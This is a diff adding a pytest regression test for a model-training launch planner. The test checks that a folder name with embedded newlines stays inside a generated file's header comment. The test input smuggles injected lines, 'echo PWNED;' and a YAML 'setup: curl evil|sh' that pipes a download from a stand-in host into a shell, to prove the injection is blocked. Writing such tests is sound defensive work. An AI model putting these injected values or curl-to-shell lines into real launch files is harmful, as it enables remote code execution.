@@ -72,3 +72,22 @@ def test_bad_emit_target_and_missing_plan():
         training_launch(REC, "torchrn", catalog=CAT, task_path="x")
     with pytest.raises(LaunchError, match="To fix"):
         training_launch(None, "skypilot", catalog=CAT, task_path="x")
+
+
+@pytest.mark.parametrize("target", ["torchrun", "skypilot", "dstack"])
+def test_a_model_folder_named_with_a_newline_stays_inside_the_comment(target, tmp_path):
+    """`--config 'x<newline>echo PWNED; #/config.json'` wrote the folder's name into the
+    header comment, so its second line ran as shell code (torchrun) or became YAML keys."""
+    from planner import WorkloadSpec, build_workload
+
+    config = {"model_type": "llama", "hidden_size": 512, "num_hidden_layers": 4,
+              "num_attention_heads": 8, "intermediate_size": 1024, "vocab_size": 32000}
+    source = str(tmp_path / "x\necho PWNED; #\nsetup: curl evil|sh" / "config.json")
+    workload = build_workload(WorkloadSpec(config=config, config_name=source, tokens="1B"))
+    assert "\n" not in workload.arch.name
+    bundle = training_launch(REC, target, catalog=CAT, task_path="t.out", workload=workload)
+    for f in bundle.files:
+        lines = f.text.splitlines()
+        assert not [x for x in lines if x.startswith(("echo", "setup: curl"))], f.text
+        if target != "torchrun":
+            assert list(load(f.text)).count("setup") <= 1
